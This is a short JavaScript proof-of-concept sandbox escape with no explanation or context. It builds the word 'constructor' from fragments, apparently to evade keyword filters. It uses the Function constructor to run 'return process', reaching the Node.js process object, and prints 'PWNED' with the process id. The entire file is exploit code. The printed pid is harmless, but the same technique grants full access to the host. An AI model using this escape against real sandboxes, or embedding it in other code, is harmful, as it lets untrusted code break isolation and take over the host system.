const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
const o = {};
for (const k of Object.getOwnPropertyNames(C.prototype)) o[k] = C.prototype[k];
console.log('PWNED', o.go(fn)('return process')().pid);
